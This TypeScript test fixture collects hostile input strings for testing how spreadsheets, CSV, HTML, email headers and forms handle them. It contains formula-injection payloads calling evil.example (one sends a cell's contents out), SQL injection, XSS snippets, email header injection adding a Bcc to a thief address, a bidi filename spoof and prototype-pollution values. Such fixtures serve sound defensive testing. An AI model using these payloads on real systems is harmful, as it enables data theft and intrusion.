/** Text that a spreadsheet, an email, a page or a program could mistake for something else. No real people in it. */
import { readFileSync } from "node:fs";
import * as z from "zod";
import { isEveryPoint } from "../every-point";

/** The Big List of Naughty Strings (MIT, github.com/minimaxir/big-list-of-naughty-strings), each once. */
const listed = z
  .array(z.string())
  .parse(JSON.parse(readFileSync(new URL("./blns.json", import.meta.url), "utf8")));

/** One or more of each kind. */
export const kinds = {
  formula: [
    '=HYPERLINK("http://evil.example","open me")',
    '=IMPORTXML("http://evil.example/?"&A3,"//a")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=1+1",
    "\uFF1D1+1",
  ],
  csv: ['one","two', "a;b;c", '"; DROP TABLE cases; --', 'x\n=1+1,"y"'],
  html: [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><b>bold</b>",
    "&lt;i&gt; &amp; &#60;",
    "{{constructor}} #{7*7} %s <?= 1 ?>",
    "javascript:alert(1)",
  ],
  header: [
    "Line\r\nBcc: thief@evil.example",
    "a@district.example\r\nCc: thief@evil.example",
    "a@district.example, thief@evil.example",
    "Name <thief@evil.example>",
    "a@district.example\u2028Bcc: thief@evil.example",
    "Subject: other\r\n\r\nbody",
  ],
  direction: ["a\u202Etxt.exe", "\u2066x\u2069y\u200F", "\u202Dlead@district.example"],
  invisible: [
    "\u200B",
    "No\u200Brth High",
    "\uFEFFlead",
    "a\u00ADb",
    "\u2060",
    "\u{E0041}\u{E0042}",
  ],
  control: ["a\u0000b", "\u0007\u001B[31mred", "x\u007Fy\u0085z"],
  surrogate: ["\uD83D", "x\uDE00y", "\uDE00\uD83D"],
  emoji: ["👩‍👧", "🏳️‍🌈 school", "e\u0301", "𝒳"],
  prototype: [
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "prototype",
    "valueOf",
    "__defineGetter__",
    '{"__proto__":{"level":"at-risk"}}',
  ],
  number: [
    "1e5",
    "00731",
    "0x1F",
    "TRUE",
    "#REF!",
    "2026-09-02",
    "NaN",
    "-1",
    "99999999999999999999",
  ],
} as const;

/** As long as a cell can hold, and a thousand lines. */
export const long: readonly string[] = ["x7".repeat(25_000), `${"y".repeat(40)}\n`.repeat(1_000)];

/** Too long for a cell; on the Form only. */
export const longest = "z9".repeat(60_000);

/** Every string of every kind. */
export const ofKinds: readonly string[] = Object.values(kinds).flat();

/** All but the long ones, each once, none empty. */
export const hostile: readonly string[] = [...new Set([...ofKinds, ...listed])].filter(
  (text) => text !== "",
);

/** The list in stretches of `size`. */
export function stretches(all: readonly string[], size: number): readonly (readonly string[])[] {
  return Array.from({ length: Math.ceil(all.length / size) }, (_, at) =>
    all.slice(at * size, (at + 1) * size),
  );
}

/** The n-th string, from the first again after the last. */
export function nth(all: readonly string[], at: number): string {
  return all[at % all.length] ?? "";
}

/** Each of the kinds by itself; of the others twelve in one text. */
export const texts: readonly (readonly string[])[] = [
  ...ofKinds.map((text) => [text]),
  ...stretches(hostile.slice(ofKinds.length), 12),
];

/** Places of the texts that a cell meets: each of the kinds, and of the others each third; in answers of the Form all are written. */
export const cellTexts: readonly number[] = [...texts.keys()].filter(
  (at) => isEveryPoint || at < ofKinds.length || at % 3 === 0,
);

/** The n-th of those texts; which of the twelve begins it goes by `turn`. */
export function textAt(at: number, turn: number): string {
  const those = texts[at % texts.length] ?? [];
  return those.map((_, place) => nth(those, place + turn)).join("\n");
}
